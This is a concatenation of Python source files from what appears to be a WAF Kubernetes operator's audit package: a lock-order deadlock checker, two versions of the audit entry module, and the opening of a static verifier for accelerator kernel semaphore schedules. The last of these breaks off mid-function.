(``threading.Lock/RLock/Condition`` assigned to ``self.X``), every
acquisition site (``with self.X:``), and build the directed
acquired-while-holding graph. A cycle in that graph is a deadlock an
interleaving can always find — rejected with an ERROR.

Call resolution is deliberately conservative and three-tiered:

1. ``self.m()``        -> same-class method m;
2. ``self.attr.m()``   -> method m of the class constructed into
   ``self.attr`` in ``__init__`` (``self.attr = ClassName(...)``);
3. ``anything.m()``    -> method m of the ONE analyzed class that both
   defines m and acquires locks, when that class is unique — otherwise
   the call is ignored (missing an edge can miss a deadlock, but never
   invents one; the graph stays sound for what it claims).

Re-acquiring the same RLock/Condition is reentrant and not an edge;
a ``with self.X`` nested under itself on a plain Lock IS a self-cycle.
"""

from __future__ import annotations

import ast
import os

from ..diagnostics import ERROR, INFO, AnalysisReport

_LOCK_CTORS = {"Lock", "RLock", "Condition"}
_REENTRANT_CTORS = {"RLock", "Condition"}  # Condition wraps an RLock


def _dotted(node: ast.AST) -> str:
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
    return ".".join(reversed(parts))


class _ClassInfo:
    def __init__(self, name: str, path: str) -> None:
        self.name = name
        self.path = path
        self.locks: dict[str, bool] = {}  # attr -> reentrant?
        self.attr_types: dict[str, str] = {}  # self.attr -> ClassName
        self.methods: dict[str, ast.FunctionDef] = {}


def _collect_class(node: ast.ClassDef, path: str,
                   class_names: set[str]) -> _ClassInfo:
    info = _ClassInfo(node.name, path)
    for item in node.body:
        if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
            info.methods[item.name] = item
    for sub in ast.walk(node):
        if not isinstance(sub, ast.Assign):
            continue
        for tgt in sub.targets:
            if not (isinstance(tgt, ast.Attribute)
                    and isinstance(tgt.value, ast.Name)
                    and tgt.value.id == "self"):
                continue
            # a lock ctor or a known-class ctor anywhere in the value
            # (handles `x if cond else Ctor(...)` defaults)
            for call in ast.walk(sub.value):
                if not isinstance(call, ast.Call):
                    continue
                tail = _dotted(call.func).rsplit(".", 1)[-1]
                if tail in _LOCK_CTORS:
                    info.locks[tgt.attr] = tail in _REENTRANT_CTORS
                elif tail in class_names:
                    info.attr_types[tgt.attr] = tail
    return info


def _self_attr(node: ast.AST) -> str | None:
    if (isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "self"):
        return node.attr
    return None


class _Graph:
    def __init__(self) -> None:
        self.nodes: set[str] = set()
        self.edges: dict[str, set[str]] = {}
        self.sites: dict[tuple[str, str], str] = {}  # edge -> "file:line"

    def add_edge(self, a: str, b: str, site: str) -> None:
        self.nodes.update((a, b))
        self.edges.setdefault(a, set()).add(b)
        self.sites.setdefault((a, b), site)

    def find_cycle(self) -> list[str] | None:
        WHITE, GREY, BLACK = 0, 1, 2
        color = dict.fromkeys(self.nodes, WHITE)
        stack: list[str] = []

        def dfs(n: str) -> list[str] | None:
            color[n] = GREY
            stack.append(n)
            for m in sorted(self.edges.get(n, ())):
                if color[m] == GREY:
                    return stack[stack.index(m):] + [m]
                if color[m] == WHITE:
                    cyc = dfs(m)
                    if cyc:
                        return cyc
            stack.pop()
            color[n] = BLACK
            return None

        for n in sorted(self.nodes):
            if color[n] == WHITE:
                cyc = dfs(n)
                if cyc:
                    return cyc
        return None


class _Analyzer:
    def __init__(self, classes: dict[str, _ClassInfo]) -> None:
        self.classes = classes
        # fallback tier 3: method name -> unique lock-acquiring class
        owners: dict[str, set[str]] = {}
        for c in classes.values():
            for m in c.methods:
                owners.setdefault(m, set()).add(c.name)
        self.unique_owner = {
            m: next(iter(cs)) for m, cs in owners.items()
            if len(cs) == 1 and classes[next(iter(cs))].locks}
        self.graph = _Graph()
        self._locks_of: dict[tuple[str, str], set[str]] = {}

    # -- method-level lock summaries (fixpoint) ---------------------------
    def _direct_acquisitions(self, cls: _ClassInfo,
                             fn: ast.AST) -> set[str]:
        out = set()
        for node in ast.walk(fn):
            if isinstance(node, (ast.With, ast.AsyncWith)):
                for item in node.items:
                    attr = _self_attr(item.context_expr)
                    if attr in cls.locks:
                        out.add(f"{cls.name}.{attr}")
        return out

    def _resolve_call(self, cls: _ClassInfo,
                      call: ast.Call) -> tuple[str, str] | None:
        fn = call.func
        if not isinstance(fn, ast.Attribute):
            return None
        method = fn.attr
        base = fn.value
        if isinstance(base, ast.Name) and base.id == "self":
            if method in cls.methods:
                return (cls.name, method)
        attr = _self_attr(base)
        if attr is not None:
            tname = cls.attr_types.get(attr)
            if tname and method in self.classes[tname].methods:
                return (tname, method)
        owner = self.unique_owner.get(method)
        if owner is not None:
            return (owner, method)
        return None

    def method_locks(self, cname: str, mname: str,
                     _seen: frozenset = frozenset()) -> set[str]:
        """Locks the method may acquire, transitively."""
        key = (cname, mname)
        if key in self._locks_of:
            return self._locks_of[key]
        if key in _seen:
            return set()
        cls = self.classes[cname]
        fn = cls.methods[mname]
        out = set(self._direct_acquisitions(cls, fn))
        seen = _seen | {key}
        for node in ast.walk(fn):
            if isinstance(node, ast.Call):
                callee = self._resolve_call(cls, node)
                if callee is not None and callee != key:
                    out |= self.method_locks(*callee, seen)
        self._locks_of[key] = out
        return out

    # -- edge construction -------------------------------------------------
    def build_edges(self) -> None:
        for cls in self.classes.values():
            for attr, reentrant in cls.locks.items():
                self.graph.nodes.add(f"{cls.name}.{attr}")
            for mname, fn in cls.methods.items():
                for node in ast.walk(fn):
                    if not isinstance(node, (ast.With, ast.AsyncWith)):
                        continue
                    held = [
                        item.context_expr for item in node.items
                        if _self_attr(item.context_expr) in cls.locks]
                    for expr in held:
                        attr = _self_attr(expr)
                        a = f"{cls.name}.{attr}"
                        site = f"{os.path.basename(cls.path)}:" \
                               f"{node.lineno}"
                        self._edges_from_body(cls, a, attr, node, site)

    def _edges_from_body(self, cls: _ClassInfo, a: str, a_attr: str,
                         with_node: ast.AST, site: str) -> None:
        for inner in ast.walk(with_node):
            if isinstance(inner, (ast.With, ast.AsyncWith)) \
                    and inner is not with_node:
                for item in inner.items:
                    attr = _self_attr(item.context_expr)
                    if attr in cls.locks:
                        b = f"{cls.name}.{attr}"
                        if b == a and cls.locks[attr]:
                            continue  # reentrant re-acquire
                        self.graph.add_edge(a, b, site)
            elif isinstance(inner, ast.Call):
                callee = self._resolve_call(cls, inner)
                if callee is None:
                    continue
                for b in self.method_locks(*callee):
                    if b == a and cls.locks.get(a_attr):
                        continue
                    self.graph.add_edge(a, b, site)


DEFAULT_SUBDIRS = ("runtime", "parallel", "extproc", "fleet",
                   "autotune")

# Background-thread entry points (class, method) whose transitive lock
# footprint must be in the audited graph: every lock such a thread can
# hold participates in cross-thread ordering, so a renamed/moved entry
# point silently shrinking the graph is an ERROR, not a skip.
THREAD_ENTRY_POINTS = (
    ("AuditEventPipeline", "_writer"),    # runtime/audit_events.py
    ("AutoTuner", "_run"),                # autotune/controller.py
    ("HealthTracker", "_run"),            # fleet/health.py
    ("MicroBatcher", "stream_gc"),        # extproc/batcher.py (timer)
)


def _default_sources() -> list[tuple[str, str]]:
    pkg = os.path.dirname(os.path.dirname(os.path.dirname(
        os.path.abspath(__file__))))
    out = []
    for sub in DEFAULT_SUBDIRS:
        d = os.path.join(pkg, sub)
        for name in sorted(os.listdir(d)):
            if name.endswith(".py"):
                p = os.path.join(d, name)
                with open(p, encoding="utf-8") as f:
                    out.append((p, f.read()))
    return out


def run_lock_audit(report: AnalysisReport | None = None,
                   sources: list[tuple[str, str]] | None = None
                   ) -> AnalysisReport:
    """Build the lock graph over (path, source) pairs — defaults to the
    package's concurrency modules — and reject cycles. The
    THREAD_ENTRY_POINTS presence check only applies to the default
    (whole-repo) scan: fixture source sets legitimately lack them."""
    if report is None:
        report = AnalysisReport()
    check_entry_points = sources is None
    if sources is None:
        sources = _default_sources()
    trees: list[tuple[str, ast.Module]] = []
    class_names: set[str] = set()
    for path, src in sources:
        tree = ast.parse(src, filename=path)
        trees.append((path, tree))
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                class_names.add(node.name)
    classes: dict[str, _ClassInfo] = {}
    for path, tree in trees:
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                classes[node.name] = _collect_class(node, path,
                                                    class_names)
    an = _Analyzer(classes)
    an.build_edges()
    cycle = an.graph.find_cycle()
    if cycle:
        hops = " -> ".join(cycle)
        first = an.graph.sites.get((cycle[0], cycle[1]), "?") \
            if len(cycle) > 1 else "?"
        report.add(
            ERROR, "lock-cycle",
            f"lock acquisition cycle: {hops} (first edge at {first})",
            fix_hint="impose a global acquisition order; release the "
                     "outer lock before taking the inner one")
    n_edges = sum(len(v) for v in an.graph.edges.values())
    report.add(
        INFO, "lock-order",
        f"lock graph: {len(an.graph.nodes)} lock(s), {n_edges} "
        f"acquired-while-holding edge(s), acyclic={cycle is None}")
    for cname, mname in (THREAD_ENTRY_POINTS if check_entry_points
                         else ()):
        cls = classes.get(cname)
        if cls is None or mname not in cls.methods:
            report.add(
                ERROR, "lock-entry-missing",
                f"thread entry point {cname}.{mname} not found in the "
                f"scanned sources — renamed/moved without updating "
                f"THREAD_ENTRY_POINTS, or its module left the scan "
                f"roots {DEFAULT_SUBDIRS}",
                fix_hint="update THREAD_ENTRY_POINTS in "
                         "analysis/audit/locks.py (or DEFAULT_SUBDIRS) "
                         "so the background thread's lock footprint "
                         "stays in the audited graph")
            continue
        footprint = sorted(an.method_locks(cname, mname))
        report.add(
            INFO, "lock-entry",
            f"thread entry {cname}.{mname}: transitive lock footprint "
            f"{footprint if footprint else '(lock-free)'}")
    return report
