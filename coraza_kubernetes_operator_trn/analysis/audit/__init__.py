"""waf-audit: trace-level kernel-graph auditor + concurrency checker.

Two halves, one report:

* :mod:`.kernels` traces every kernel variant the engine can emit
  (gather/onehot × stride 1/2/4 × length buckets × replicated/
  rp-sharded) to jaxprs and proves: no host callbacks, no dynamic
  shapes, bounded per-scan-step gathers, a bounded trace-cache-key set
  (no recompile storms), and resident-memory within the declared
  budgets.
* :mod:`.locks` / :mod:`.epoch` statically check the concurrency
  protocols: the lock-acquisition-order graph must be acyclic, and the
  epoch-pinning protocol (install-before-retire, one-epoch deferred
  retirement, publish-last, lock-held advances) must match the code's
  actual transition sites.

``run_audit()`` is the single entry point (``make audit`` / the
``tools/waf_audit.py`` CLI / ``python -m ...analysis.audit``).
``audit_stamp()`` condenses a quick run into the digest embedded in
compiled artifacts so the control plane can refuse artifacts built
without a clean audit.
"""

from __future__ import annotations

import hashlib
import json

from ..diagnostics import AnalysisReport
from .epoch import run_epoch_audit
from .locks import run_lock_audit

__all__ = ["run_audit", "audit_stamp", "report_digest",
           "run_epoch_audit", "run_lock_audit", "run_kernel_audit",
           "predict_program"]


def run_kernel_audit(*args, **kwargs):  # lazy: pulls in jax
    from .kernels import run_kernel_audit as impl
    return impl(*args, **kwargs)


def predict_program(*args, **kwargs):
    """Static per-program cost (see .cost): the analytic join target
    for the runtime profiler's measured-vs-predicted efficiency."""
    from .cost import predict_program as impl
    return impl(*args, **kwargs)


def run_audit(quick: bool = False, *,
              kernels: bool = True,
              concurrency: bool = True) -> AnalysisReport:
    """Run both audit halves into one report.

    ``quick`` trims the kernel matrix to strides (1, 2) × two buckets
    with no screen/block/rp variants — the artifact-stamp profile.
    """
    report = AnalysisReport()
    if concurrency:
        run_lock_audit(report)
        run_epoch_audit(report)
    if kernels:
        run_kernel_audit(report, quick=quick)
    report.sort()
    return report


def report_digest(report: AnalysisReport) -> str:
    """Stable digest of a report: canonical JSON of its as_dict()."""
    blob = json.dumps(report.as_dict(), sort_keys=True,
                      separators=(",", ":"))
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()[:16]


_STAMP_CACHE: dict | None = None


def audit_stamp(refresh: bool = False) -> dict:
    """``{"ok", "digest", "counts"}`` from a quick audit run, cached for
    the process (compiling N tenants must not re-audit N times)."""
    global _STAMP_CACHE
    if _STAMP_CACHE is None or refresh:
        report = run_audit(quick=True)
        _STAMP_CACHE = {
            "ok": report.ok,
            "digest": report_digest(report),
            "counts": report.counts(),
        }
    return _STAMP_CACHE
