"""waf-audit: trace-level kernel-graph auditor + concurrency checker.

Two halves, one report:

* :mod:`.kernels` traces every kernel variant the engine can emit
  (gather/onehot × stride 1/2/4 × length buckets × replicated/
  rp-sharded) to jaxprs and proves: no host callbacks, no dynamic
  shapes, bounded per-scan-step gathers, a bounded trace-cache-key set
  (no recompile storms), and resident-memory within the declared
  budgets.
* :mod:`.locks` / :mod:`.epoch` statically check the concurrency
  protocols: the lock-acquisition-order graph must be acyclic, and the
  epoch-pinning protocol (install-before-retire, one-epoch deferred
  retirement, publish-last, lock-held advances) must match the code's
  actual transition sites.
* :mod:`.sched` (waf-sched) records the hand-written BASS kernel
  builders against a stub ``nc``/``tc`` and statically verifies the
  semaphore protocol (liveness + hazard ordering), tile_pool reuse,
  SBUF/PSUM capacity and the measured-vs-declared op-count budgets —
  no device or bass toolchain needed.

``run_audit()`` is the single entry point (``make audit`` / the
``tools/waf_audit.py`` CLI / ``python -m ...analysis.audit``).
``audit_stamp()`` condenses a quick run into the digest embedded in
compiled artifacts so the control plane can refuse artifacts built
without a clean audit.
"""

from __future__ import annotations

import hashlib
import json
import time

from ..diagnostics import AnalysisReport
from .epoch import run_epoch_audit
from .locks import run_lock_audit

__all__ = ["run_audit", "audit_stamp", "report_digest", "sched_digest",
           "run_epoch_audit", "run_lock_audit", "run_kernel_audit",
           "run_sched_audit", "predict_program"]


def run_kernel_audit(*args, **kwargs):  # lazy: pulls in jax
    from .kernels import run_kernel_audit as impl
    return impl(*args, **kwargs)


def run_sched_audit(*args, **kwargs):  # lazy: pulls in jax via ops
    from .sched import run_sched_audit as impl
    return impl(*args, **kwargs)


def predict_program(*args, **kwargs):
    """Static per-program cost (see .cost): the analytic join target
    for the runtime profiler's measured-vs-predicted efficiency."""
    from .cost import predict_program as impl
    return impl(*args, **kwargs)


def run_audit(quick: bool = False, *,
              kernels: bool = True,
              concurrency: bool = True,
              sched: bool = True,
              sections: dict | None = None) -> AnalysisReport:
    """Run all audit sections into one report.

    ``quick`` trims the kernel matrix to strides (1, 2) × two buckets
    with no screen/block/rp variants, and the sched envelope to the
    default (S, chunk) points — the artifact-stamp profile.

    ``sections``, when a dict, receives a per-section
    ``{"ok": bool, "seconds": float}`` entry for each section that ran
    (``locks`` / ``epoch`` / ``sched`` / ``kernels``) so a failure
    attributes to a section instead of one flat diagnostic list.
    """
    report = AnalysisReport()

    def _section(name, fn, *args, **kwargs):
        before = len(report.errors)
        start = time.perf_counter()
        fn(report, *args, **kwargs)
        if sections is not None:
            sections[name] = {
                "ok": len(report.errors) == before,
                "seconds": round(time.perf_counter() - start, 3),
            }

    if concurrency:
        _section("locks", run_lock_audit)
        _section("epoch", run_epoch_audit)
    if sched:
        _section("sched", run_sched_audit, quick=quick)
    if kernels:
        _section("kernels", run_kernel_audit, quick=quick)
    report.sort()
    return report


def report_digest(report: AnalysisReport) -> str:
    """Stable digest of a report: canonical JSON of its as_dict()."""
    blob = json.dumps(report.as_dict(), sort_keys=True,
                      separators=(",", ":"))
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()[:16]


_STAMP_CACHE: dict | None = None


def sched_digest(report: AnalysisReport) -> str:
    """Digest of the waf-sched slice of a report (codes prefixed
    ``sched-``): a changed kernel schedule — different op counts,
    capacity, envelope — changes this even while the audit stays
    green, so regression review can see schedule drift."""
    rows = [d.as_dict() for d in report.diagnostics
            if d.code.startswith("sched-")]
    blob = json.dumps(rows, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()[:16]


def audit_stamp(refresh: bool = False) -> dict:
    """``{"ok", "digest", "sched_digest", "counts"}`` from a quick
    audit run, cached for the process (compiling N tenants must not
    re-audit N times)."""
    global _STAMP_CACHE
    if _STAMP_CACHE is None or refresh:
        report = run_audit(quick=True)
        _STAMP_CACHE = {
            "ok": report.ok,
            "digest": report_digest(report),
            "sched_digest": sched_digest(report),
            "counts": report.counts(),
        }
    return _STAMP_CACHE
