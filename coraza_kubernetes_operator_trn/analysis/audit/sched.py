"""waf-sched: static schedule verifier for the hand-written BASS kernels.

waf-audit (the ``kernels`` half) traces the JAX seam *around*
``ops/bass_compose.py`` / ``ops/bass_screen.py`` but never looks inside
them: the hand-written semaphore protocols (``then_inc`` / ``wait_ge``
with hand-computed thresholds like ``16 * (c + 1 + b * n_chunks)``),
the double-buffered ``tile_pool`` reuse and the hand-maintained op-count
formulas (``bass_matmuls_per_chunk``) were correct only by inspection.
This module closes that gap without a device or the bass toolchain:

* ``record_schedule`` runs the real builder (``build_compose_schedule``
  / ``build_screen_schedule``) against a recording stub ``nc``/``tc``,
  capturing per-engine op streams, every semaphore increment/wait with
  its resolved integer threshold, and every pool/tile allocation.
* ``check_schedule`` statically verifies four invariant families over
  the recorded graph:

  1. **semaphore liveness** — a multi-queue retire simulation must
     drain every queue (a stuck wait is a deadlock ⇒ ERROR), and every
     ``wait_ge`` threshold must be covered by the schedule's total
     increments on that semaphore (⇒ ``sched-dangling-wait``);
  2. **buffer hazards** — a happens-before graph (per-queue program
     order + DMA-channel FIFO + semaphore edges + the Tile framework's
     automatic same-tile dependencies) must prove every read of a
     manually scheduled write (``sched-raw``) and every overwrite of a
     still-live tile — both in-place double-buffer rewrites and
     ``bufs=N`` pool-slot rotation (``sched-war``);
  3. **capacity** — summed SBUF bytes per partition and PSUM banks
     from the recorded allocations stay within the hardware budgets
     (128 × 224 KiB SBUF, 8 × 2 KiB PSUM banks per partition);
  4. **derived budgets** — TensorE / DVE / DMA op counts measured from
     the stream are cross-checked against ``bass_matmuls_per_chunk``,
     the screen ``2K+2`` / ``3K`` costs and WAF_AUDIT_COMPOSE_BUDGET;
     drift ⇒ ERROR carrying both numbers.

Ordering model (what "proven" means). Each engine queue (tensor,
vector, gpsimd, sync, scalar) issues in program order; a non-DMA op
completes before the next op on its queue issues; DMAs issued from one
queue complete FIFO relative to each other but asynchronously w.r.t.
the issuing queue. ``wait_ge(s, t)`` orders the waiting queue after
completion of the minimal prefix of ``s``'s increments reaching ``t``
(exact when a semaphore has a single producer queue — all of the
kernels' semaphores do). The Tile framework automatically orders
same-tile RAW/WAR/WAW between the ops it schedules — compute ops and
plain ``dma_start`` — so those pairs need no proof; ``indirect_dma_start``
and any DMA carrying ``then_inc`` are *manually scheduled* and every
cross-queue dependency touching them must be proven by program order
plus semaphore edges.

The audited envelope is the cartesian product of the WAF_SCHED_*
knobs (states × chunks, over both kernels and the strided screen
variant); ``quick`` audits only the default (S, chunk) points — the
profile ``make audit``, ``bench.py --smoke`` and the artifact stamp
run. Suppression policy: there is none — a sched ERROR on the clean
tree means the kernel protocol or this model is wrong, and whichever
it is must be fixed, not annotated (see DEVELOPMENT.md).
"""

from __future__ import annotations

import contextlib
import sys

from ...config import env as envcfg
from ..diagnostics import ERROR, INFO, AnalysisReport

__all__ = ["record_schedule", "check_schedule", "run_sched_audit",
           "Schedule"]

_P = 128                     # SBUF/PSUM partition count
_SBUF_PARTITION_BYTES = 224 * 1024
_PSUM_BANKS = 8
_PSUM_BANK_BYTES = 2048
_DMA_OPS = frozenset({"dma_start", "indirect_dma_start"})
_ITEMSIZE = {"float32": 4, "int32": 4, "uint32": 4, "bfloat16": 2,
             "float16": 2, "int8": 1, "uint8": 1}
_KERNEL_FILES = ("bass_compose.py", "bass_screen.py")


def _itemsize(dtype) -> int:
    isz = getattr(dtype, "itemsize", None)
    if isinstance(isz, int) and isz > 0:
        return isz
    return _ITEMSIZE.get(getattr(dtype, "name", ""), 4)


def _source_line() -> int:
    """Line inside ops/bass_*.py that issued the op being recorded."""
    f = sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename.endswith(_KERNEL_FILES):
            return f.f_lineno
        f = f.f_back
    return 0


# --- recording stubs --------------------------------------------------------

class RecordedSemaphore:
    __slots__ = ("name",)

    def __init__(self, name: str):
        self.name = name

    def __repr__(self):
        return self.name


class RecordedTile:
    """One ``pool.tile(...)`` allocation; ``index`` is the pool-local
    allocation counter (slot = index % pool.bufs, resolved at check
    time so tests can mutate ``bufs`` and re-check)."""

    __slots__ = ("pool", "index", "shape", "dtype")

    def __init__(self, pool, index, shape, dtype):
        self.pool = pool
        self.index = index
        self.shape = tuple(int(d) for d in shape)
        self.dtype = dtype

    def __getitem__(self, key):
        return _TileView(self)

    def __repr__(self):
        return f"{self.pool.name}#{self.index}"


class _TileView:
    __slots__ = ("tile",)

    def __init__(self, tile):
        self.tile = tile

    def __getitem__(self, key):
        return self


class DramTensor:
    """HBM operand stand-in: only ``.shape`` and slicing are consumed
    by the builders; slices of HBM are HBM (no hazard tracking)."""

    def __init__(self, name: str, shape):
        self.name = name
        self.shape = tuple(int(d) for d in shape)

    def __getitem__(self, key):
        return self

    def __repr__(self):
        return f"hbm:{self.name}"


class RecordedOp:
    __slots__ = ("queue", "name", "seq", "line", "reads", "writes",
                 "incs", "wait")

    def __init__(self, queue, name, seq, line):
        self.queue = queue
        self.name = name
        self.seq = seq
        self.line = line
        self.reads: list[RecordedTile] = []
        self.writes: list[RecordedTile] = []
        self.incs: list[tuple[RecordedSemaphore, int]] = []
        self.wait: tuple[RecordedSemaphore, int] | None = None

    def then_inc(self, sem, amount):
        self.incs.append((sem, int(amount)))
        return self

    @property
    def is_dma(self) -> bool:
        return self.name in _DMA_OPS

    @property
    def is_manual(self) -> bool:
        """Outside the Tile framework's automatic dependency tracking:
        indirect gathers and semaphore-carrying DMAs. (A *compute* op
        carrying then_inc stays framework-scheduled; the increment is
        just an extra semaphore set.)"""
        return self.name == "indirect_dma_start" or (
            self.is_dma and bool(self.incs))

    def where(self) -> str:
        return f"{self.queue}.{self.name} (line {self.line})"


def _tile_of(value):
    if isinstance(value, RecordedTile):
        return value
    if isinstance(value, _TileView):
        return value.tile
    ap = getattr(value, "ap", None)  # bass.IndirectOffsetOnAxis
    if ap is not None:
        return _tile_of(ap)
    return None


class _QueueRecorder:
    def __init__(self, sched: "Schedule", queue: str):
        self._sched = sched
        self._queue = queue

    def __getattr__(self, opname: str):
        if opname.startswith("_"):
            raise AttributeError(opname)

        def _record(*args, **kwargs):
            return self._sched._record(self._queue, opname, args, kwargs)

        return _record


class _RecordedNC:
    NUM_PARTITIONS = _P

    def __init__(self, sched: "Schedule"):
        self._sched = sched
        for queue in ("tensor", "vector", "gpsimd", "sync", "scalar"):
            setattr(self, queue, _QueueRecorder(sched, queue))

    def alloc_semaphore(self, name: str) -> RecordedSemaphore:
        sem = RecordedSemaphore(name)
        self._sched.semaphores.append(sem)
        return sem


class RecordedPool:
    def __init__(self, sched: "Schedule", name: str, bufs: int,
                 space: str):
        self._sched = sched
        self.name = name
        self.bufs = int(bufs)
        self.space = space
        self.tiles: list[RecordedTile] = []

    def tile(self, shape, dtype) -> RecordedTile:
        t = RecordedTile(self, len(self.tiles), shape, dtype)
        self.tiles.append(t)
        return t


class _RecordedTC:
    def __init__(self, sched: "Schedule"):
        self._sched = sched
        self.nc = _RecordedNC(sched)

    @contextlib.contextmanager
    def tile_pool(self, *, name: str, bufs: int, space: str = "SBUF"):
        pool = RecordedPool(self._sched, name, bufs, space)
        self._sched.pools[name] = pool
        yield pool


class Schedule:
    """A recorded kernel schedule: the op streams, semaphores and pool
    allocations one builder invocation produced for one envelope point."""

    def __init__(self, label: str, kernel: str, params: dict):
        self.label = label
        self.kernel = kernel
        self.params = params
        self.ops: list[RecordedOp] = []
        self.pools: dict[str, RecordedPool] = {}
        self.semaphores: list[RecordedSemaphore] = []

    def _record(self, queue, name, args, kwargs) -> RecordedOp:
        op = RecordedOp(queue, name, len(self.ops), _source_line())
        if name == "wait_ge":
            sem, threshold = args[0], args[1]
            op.wait = (sem, int(threshold))
        else:
            operands = list(args)
            out = kwargs.get("out")
            if out is None and operands:
                out = operands.pop(0)
            t = _tile_of(out) if out is not None else None
            if t is not None:
                op.writes.append(t)
            for key, value in kwargs.items():
                if key == "out":
                    continue
                t = _tile_of(value)
                if t is not None:
                    operands.append(value)
            for value in operands:
                t = _tile_of(value)
                if t is not None:
                    op.reads.append(t)
            if name == "matmul" and kwargs.get("start") is False:
                # PSUM accumulation: a start=False matmul also reads
                # its accumulator
                t = _tile_of(kwargs.get("out"))
                if t is not None:
                    op.reads.append(t)
        self.ops.append(op)
        return op


# --- recording --------------------------------------------------------------

def record_schedule(kernel: str, *, s: int, chunk: int, blocks: int = 2,
                    n_chunks: int = 3, strided: bool = False,
                    n_slots: int = 8) -> Schedule:
    """Run the real builder for one envelope point against the
    recording stubs and return the captured :class:`Schedule`."""
    from ...ops import bass_compose, bass_screen

    s, k, b = int(s), int(chunk), int(blocks)
    t = k * int(n_chunks)
    if kernel == "compose":
        label = f"compose[s={s},k={k},b={b},t={int(n_chunks)}]"
    else:
        tag = "strided" if strided else "s1"
        label = (f"screen-{tag}[s={s},k={k},b={b},t={int(n_chunks)},"
                 f"w={int(n_slots)}]")
    sched = Schedule(label, kernel, dict(
        s=s, chunk=k, blocks=b, n_chunks=int(n_chunks),
        strided=bool(strided), n_slots=int(n_slots)))
    tc = _RecordedTC(sched)
    idx = DramTensor("idx", (b, _P, t))
    state = DramTensor("state", (_P, b))
    with contextlib.ExitStack() as ctx:
        if kernel == "compose":
            maps_t = DramTensor("maps_t", (4 * s, s))
            out = DramTensor("out", (_P, b))
            bass_compose.build_compose_schedule(
                ctx, tc, maps_t, idx, state, out, s=s, chunk=k)
        elif kernel == "screen":
            maps_t = DramTensor("maps_t", (4 * s, s))
            masks = DramTensor(
                "masks",
                (4 * s, n_slots) if strided else (_P, n_slots))
            out = DramTensor("out", (_P, b * (1 + int(n_slots))))
            bass_screen.build_screen_schedule(
                ctx, tc, maps_t, masks, idx, state, out, s=s,
                n_slots=int(n_slots), chunk=k, strided=bool(strided))
        else:
            raise ValueError(f"unknown kernel {kernel!r}")
    return sched


# --- invariant family 1: semaphore liveness ---------------------------------

def _check_liveness(report: AnalysisReport, sched: Schedule) -> bool:
    """Retire simulation + dangling-wait totals. Returns True when the
    schedule drains (hazard proofs are meaningless past a deadlock)."""
    label = sched.label
    totals: dict[RecordedSemaphore, int] = {}
    for op in sched.ops:
        for sem, amount in op.incs:
            totals[sem] = totals.get(sem, 0) + amount
    ok = True
    seen: set[tuple[str, int, int]] = set()
    for op in sched.ops:
        if op.wait is None:
            continue
        sem, threshold = op.wait
        total = totals.get(sem, 0)
        if threshold > total and (sem.name, threshold,
                                  op.line) not in seen:
            seen.add((sem.name, threshold, op.line))
            ok = False
            report.add(
                ERROR, "sched-dangling-wait",
                f"{label}: {op.where()} waits {sem.name} >= {threshold}"
                f" but the whole schedule only increments it to {total}"
                " — this wait can never be satisfied", line=op.line)

    queues: dict[str, list[RecordedOp]] = {}
    for op in sched.ops:
        queues.setdefault(op.queue, []).append(op)
    heads = {q: 0 for q in queues}
    values: dict[RecordedSemaphore, int] = {}
    progress = True
    while progress:
        progress = False
        for q, qops in queues.items():
            i = heads[q]
            while i < len(qops):
                op = qops[i]
                if op.wait is not None:
                    sem, threshold = op.wait
                    if values.get(sem, 0) < threshold:
                        break
                for sem, amount in op.incs:
                    values[sem] = values.get(sem, 0) + amount
                i += 1
                progress = True
            heads[q] = i
    for q, qops in queues.items():
        if heads[q] < len(qops):
            op = qops[heads[q]]
            sem, threshold = op.wait if op.wait else (None, 0)
            detail = (f" waiting {sem.name} >= {threshold}, value "
                      f"{values.get(sem, 0)} at quiescence"
                      if sem else "")
            report.add(
                ERROR, "sched-deadlock",
                f"{label}: queue {q} deadlocks at {op.where()}{detail}"
                f" with {len(qops) - heads[q]} op(s) undrained", line=op.line)
            ok = False
    return ok


# --- invariant family 2: buffer hazards -------------------------------------

def _build_hb(sched: Schedule):
    """Happens-before event graph: event 2i = issue(op_i), 2i+1 =
    done(op_i). Returns (successor lists, per-sem producer lists)."""
    ops = sched.ops
    succ: list[list[int]] = [[] for _ in range(2 * len(ops))]

    def edge(a: int, b: int):
        succ[a].append(b)

    for op in ops:
        edge(2 * op.seq, 2 * op.seq + 1)
    by_queue: dict[str, list[RecordedOp]] = {}
    for op in ops:
        by_queue.setdefault(op.queue, []).append(op)
    for qops in by_queue.values():
        prev = None
        prev_dma = None
        for op in qops:
            if prev is not None:
                edge(2 * prev.seq, 2 * op.seq)  # in-order issue
                if not prev.is_dma:
                    # non-DMA ops complete before the queue moves on
                    edge(2 * prev.seq + 1, 2 * op.seq)
            if op.is_dma:
                if prev_dma is not None:
                    # DMAs issued from one queue complete FIFO
                    edge(2 * prev_dma.seq + 1, 2 * op.seq + 1)
                prev_dma = op
            prev = op

    producers: dict[RecordedSemaphore, list[tuple[RecordedOp, int]]] = {}
    for op in ops:
        for sem, amount in op.incs:
            producers.setdefault(sem, []).append((op, amount))
    for op in ops:
        if op.wait is None:
            continue
        sem, threshold = op.wait
        if threshold <= 0:
            continue
        cum = 0
        for producer, amount in producers.get(sem, ()):
            cum += amount
            if cum >= threshold:
                # the wait retires only after the minimal producer
                # prefix completes (single-producer-queue exact;
                # earlier producers chain through the FIFO edges)
                edge(2 * producer.seq + 1, 2 * op.seq + 1)
                break

    # Tile-framework automatic dependencies: same-tile RAW/WAR/WAW
    # between framework-scheduled ops (everything but the manual DMAs)
    accesses: dict[RecordedTile, list[tuple[RecordedOp, str]]] = {}
    for op in ops:
        for t in op.reads:
            accesses.setdefault(t, []).append((op, "r"))
        for t in op.writes:
            accesses.setdefault(t, []).append((op, "w"))
    obligations: list[tuple[str, RecordedTile, RecordedOp,
                            RecordedOp]] = []
    for t, accs in accesses.items():
        last_write: RecordedOp | None = None
        reads_since: list[RecordedOp] = []
        for op, kind in accs:
            if kind == "r":
